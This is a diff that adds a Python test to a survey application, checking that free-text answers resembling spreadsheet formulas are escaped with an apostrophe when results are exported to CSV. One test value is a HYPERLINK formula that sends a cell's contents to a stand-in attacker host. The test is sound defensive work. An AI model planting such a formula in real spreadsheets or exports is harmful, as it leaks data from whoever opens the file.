@@ -189,3 +189,19 @@ def test_a_blank_dutch_prompt_or_label_falls_back_to_english(db):
     [result] = survey_results(blank).questions
     assert result.prompt == "Do you have a GP?"
     assert [row.label for row in result.rows] == ["Yes", "Nee"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+
+
+def test_a_free_text_answer_that_looks_like_a_formula_stays_text_in_the_csv(survey):
+    answer(survey, "pl", single=0, text=FORMULA)
+    answer(survey, "pl", single=0, text="@SUM(1+1)")
+    answer(survey, "pl", single=0, text="-2+3")
+
+    rows = list(csv.reader(io.StringIO(results_csv(survey_results(survey)).lstrip("\ufeff"))))
+
+    texts = [row[1] for row in rows if row[0] == "Wat mist u?"]
+    assert sorted(texts) == sorted(["'" + FORMULA, "'@SUM(1+1)", "'-2+3"])
+    # The counts we computed are numbers, not text: they are left as they are.
+    assert all(row[2].isdigit() for row in rows[1:] if row[0] != "Wat mist u?")
